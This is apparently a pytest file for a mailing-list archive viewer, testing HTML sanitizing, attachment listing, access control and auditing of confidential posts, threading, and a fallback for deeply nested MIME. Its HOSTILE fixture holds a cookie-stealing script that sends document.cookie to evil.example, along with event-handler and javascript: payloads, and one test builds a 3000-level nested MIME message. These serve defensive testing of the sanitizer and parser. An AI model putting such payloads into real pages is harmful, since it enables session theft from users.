"""Showing the archive: safe text from hostile HTML, attachments listed, threads as trees, readers and audits."""

from __future__ import annotations

from email.message import EmailMessage

import pytest

from listserv import lists, membership
from listserv.archive import show
from listserv.archive.threading import archive_posts
from listserv.errors import BadQuery, NoSuchMember, NoSuchPost, NoSuchThread, NotAllowed
from listserv.store import audit, messages
from tests.archive.test_threading import mail, row

LIST = "team@example.org"
HOSTILE = """<html><head><style>body{background:url(http://track.example/bg)}</style>
<script>document.location='http://evil.example/?c='+document.cookie</script></head>
<body onload="steal()"><p>Dear colleagues,</p>
<p onclick="steal()">The <b>hearing</b> moved to <i>Monday</i>.</p>
<img src="http://track.example/pixel.gif" onerror="steal()" alt="pixel">
<a href="javascript:alert(document.cookie)">Click for the records</a>
<a href="https://court.example.gov/docket">the docket</a>
<iframe src="http://evil.example/frame">frame text</iframe>
</body></html>"""


@pytest.fixture
async def team(store):
    return await lists.create(store, LIST)


async def archived(store, team, raw: bytes, confidential: bool = False) -> int:
    (archive_id,) = await store.write(archive_posts, team.id, [row(raw, confidential)])
    return archive_id


def html_post(mid: str = "h@x.org") -> bytes:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"], msg["Message-ID"] = "Ann <ann@x.org>", LIST, "Hearing", f"<{mid}>"
    msg.set_content(HOSTILE, subtype="html")
    return bytes(msg)


async def test_html_is_shown_as_safe_text(store, team):
    """Scripts, styles, event attributes, remote images, frames and javascript: links are gone; words and safe links stay."""
    shown = await show.post(store, await archived(store, team, html_post()))
    text = shown["text"]
    assert "Dear colleagues," in text and "The hearing moved to Monday." in text
    assert "Click for the records" in text and "the docket <https://court.example.gov/docket>" in text
    for gone in ("script", "document", "evil", "track.example", "steal", "onerror", "onclick", "javascript",
                 "pixel", "frame text", "background", "<"):
        assert gone not in text.replace("<https://court.example.gov/docket>", ""), gone


async def test_plain_text_wins_over_html_and_attachments_are_listed_not_shown(store, team):
    """A text/plain + text/html post shows the plain part; attachments appear by name, type and size only."""
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"], msg["Message-ID"] = "ann@x.org", LIST, "Report", "<r@x.org>"
    msg.set_content("See the evaluation attached.")
    msg.add_alternative("<p>See the <b>evaluation</b> attached.</p>", subtype="html")
    msg.add_attachment(b"%PDF-1.4 secret bytes", maintype="application", subtype="pdf", filename="psych eval.pdf")
    forwarded = EmailMessage()
    forwarded["Subject"] = "Old thread"
    forwarded.set_content("enclosed text")
    msg.add_attachment(forwarded)
    shown = await show.post(store, await archived(store, team, bytes(msg)))
    assert shown["text"] == "See the evaluation attached."
    assert shown["attachments"][0] == {
        "number": 1, "name": "psych eval.pdf", "filename": "psych eval.pdf", "type": "application/pdf", "size": 21}
    assert shown["attachments"][1]["type"] == "message/rfc822"
    assert "secret bytes" not in shown["text"] and "enclosed text" not in shown["text"]
    assert shown["headers"]["Subject"] == "Report" and shown["headers"]["Message-ID"] == "<r@x.org>"


def with_report(mid: str = "r@x.org") -> bytes:
    """A post with a PDF and a forwarded message attached."""
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"], msg["Message-ID"] = "ann@x.org", LIST, "Report", f"<{mid}>"
    msg.set_content("See the evaluation attached.")
    msg.add_attachment(b"%PDF-1.4 secret bytes", maintype="application", subtype="pdf", filename="psych eval.pdf")
    forwarded = EmailMessage()
    forwarded["Subject"] = "Old thread"
    forwarded.set_content("enclosed text")
    msg.add_attachment(forwarded)
    return bytes(msg)


async def test_an_attachment_comes_back_decoded_under_the_number_the_post_lists(store, team):
    """Attachment 1 is the PDF's decoded bytes with its name; attachment 2 the forwarded message whole (no name);
    0 and 3 do not exist."""
    archive_id = await archived(store, team, with_report())
    listed = (await show.post(store, archive_id))["attachments"]
    first, second = [await show.attachment(store, archive_id, n) for n in (1, 2)]
    assert first == {"name": "psych eval.pdf", "type": "application/pdf", "data": b"%PDF-1.4 secret bytes"}
    assert second["name"] == "" and second["type"] == "message/rfc822" and b"enclosed text" in second["data"]
    assert [item["size"] for item in listed] == [len(first["data"]), len(second["data"])]
    for number in (0, 3):
        with pytest.raises(NoSuchPost):
            await show.attachment(store, archive_id, number)


async def test_a_confidential_posts_attachment_follows_the_post(store, team):
    """Refused without an entitled reader; for bob the bytes and an audit row; once purged, no attachment."""
    archive_id = await archived(store, team, with_report("cr@x.org"), confidential=True)
    await membership.add(store, LIST, "bob@x.org")
    await membership.add(store, LIST, "nina@x.org", confidential=False)
    for reader in (None, "nina@x.org"):
        with pytest.raises(NotAllowed):
            await show.attachment(store, archive_id, 1, as_address=reader)
    assert (await show.attachment(store, archive_id, 1, as_address="bob@x.org"))["data"].startswith(b"%PDF")
    reads = [r for r in await audit.entries(store.db, team.id) if r["action"] == "read-confidential"]
    assert [(r["object"], r["detail"]) for r in reads] == [(f"archive:{archive_id}", "attachment as bob@x.org")]
    await store.write(messages.purge_confidential, team.id, 2e9, 2e9)
    with pytest.raises(NoSuchPost):
        await show.attachment(store, archive_id, 1, as_address="bob@x.org")


async def test_an_unknown_post_is_refused(store, team):
    """An archive number that does not exist: NoSuchPost."""
    with pytest.raises(NoSuchPost):
        await show.post(store, 999)


async def test_a_confidential_post_needs_an_entitled_reader_and_is_audited(store, team):
    """Without a reader a confidential post is refused; an entitled member sees it and the read is audited."""
    secret = await archived(store, team, mail("s@x.org", "Client history", "2024-01-01T10:00"), confidential=True)
    await membership.add(store, LIST, "bob@x.org")
    await membership.add(store, LIST, "nina@x.org", confidential=False)
    with pytest.raises(NotAllowed):
        await show.post(store, secret)
    with pytest.raises(NotAllowed):
        await show.post(store, secret, as_address="nina@x.org")
    shown = await show.post(store, secret, as_address="bob@x.org")
    assert shown["confidential"] is True and shown["subject"] == "Client history"
    reads = [r for r in await audit.entries(store.db, team.id) if r["action"] == "read-confidential"]
    assert [(r["object"], r["detail"]) for r in reads] == [(f"archive:{secret}", "show as bob@x.org")]


async def test_a_purged_post_shows_its_facts_without_content(store, team):
    """When the content is gone (retention), show says so instead of failing."""
    archive_id = await archived(store, team, mail("p@x.org", "Old", "2024-01-01T10:00"), confidential=True)
    await store.write(messages.purge_confidential, team.id, 2e9, 2e9)
    await membership.add(store, LIST, "mod@x.org", role="moderator")
    shown = await show.post(store, archive_id, moderator="mod@x.org")
    assert shown["content"] is False and shown["text"] == "" and shown["sender"] == "ann@fd.org"


async def test_a_thread_shows_only_what_the_reader_may_see(store, team):
    """Confidential posts of a thread are left out (and counted) for the public; a moderator sees all, audited."""
    root = await archived(store, team, mail("t1@x.org", "Question", "2024-01-01T10:00"))
    await archived(store, team, mail("t2@x.org", "Re: Question", "2024-01-02T10:00", reply_to="t1@x.org"), True)
    thread_id = (await show.post(store, root))["thread_id"]
    public = await show.thread(store, thread_id)
    assert (public["posts"], public["hidden"], public["subject"]) == (1, 1, "Question")
    await membership.add(store, LIST, "mod@x.org", role="moderator")
    full = await show.thread(store, thread_id, moderator="mod@x.org")
    assert [(r["depth"], r["message_id"]) for r in full["tree"]] == [(0, "t1@x.org"), (1, "t2@x.org")]
    assert len([r for r in await audit.entries(store.db, team.id) if r["action"] == "read-confidential"]) == 1


async def test_a_thread_carries_the_text_of_its_first_posts_only_when_asked(store, team):
    """texts=1: the first post of the tree comes with its text, the next one without (the web thread page shows a
    bounded number of posts whole); without texts (the command line) no post carries any."""
    root = await archived(store, team, mail("w1@x.org", "Question", "2024-01-01T10:00", body="First words."))
    await archived(store, team, mail("w2@x.org", "Re: Question", "2024-01-02T10:00", reply_to="w1@x.org",
                                     body="Second words."))
    thread_id = (await show.post(store, root))["thread_id"]
    rows = (await show.thread(store, thread_id, texts=1))["tree"]
    assert (rows[0]["text"], rows[0]["content"], rows[0]["attachments"]) == ("First words.", True, [])
    assert "text" not in rows[1] and "content" not in rows[1]
    assert all("text" not in row for row in (await show.thread(store, thread_id))["tree"])


async def test_unknown_or_invisible_threads_are_refused(store, team):
    """No such number, or a thread made only of confidential posts for the public: NoSuchThread."""
    secret = await archived(store, team, mail("only@x.org", "Case", "2024-01-01T10:00"), confidential=True)
    await membership.add(store, LIST, "mod@x.org", role="moderator")
    thread_id = (await show.post(store, secret, moderator="mod@x.org"))["thread_id"]
    for number in (thread_id, 999):
        with pytest.raises(NoSuchThread):
            await show.thread(store, number)


async def test_find_follows_a_merged_thread_and_checks_the_reader(store, team):
    """thread:N of a thread merged since finds the posts under the new number; --as a non-member is refused."""
    a = await archived(store, team, mail("fa@x.org", "Fees", "2024-01-01T10:00", body="invoice one"))
    b = await archived(store, team, mail("fb@x.org", "Rates", "2024-01-02T10:00", body="invoice two"))
    old = (await show.post(store, b))["thread_id"]
    await archived(store, team, mail("fc@x.org", "Re: Fees", "2024-01-03T10:00", refs=("fa@x.org", "fb@x.org")))
    found = await show.find(store, LIST, f"thread:{old} invoice")
    assert sorted(r["id"] for r in found) == sorted([a, b])
    with pytest.raises(NoSuchMember):
        await show.find(store, LIST, "invoice", as_address="stranger@x.org")
    with pytest.raises(BadQuery):
        await show.find(store, LIST, "from:")


async def test_a_post_too_nested_to_parse_shows_its_archived_text(store, team):
    """MIME nested beyond the parser's limits: show falls back to the text extracted when it was archived."""
    depth = 3000
    head = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(depth))
    raw = b"From: ann@x.org\nSubject: nested\nMessage-ID: <deep@x.org>\n" + head + b"Content-Type: text/plain\n\ndeep\n"
    archive_id = await store.write(messages.add, team.id, {"message_id": "deep@x.org", "date": 0.0, "raw": raw,
                                                           "body_text": "deep (as archived)"})
    shown = await show.post(store, archive_id)
    assert shown["text"] == "deep (as archived)" and shown["content"] is True
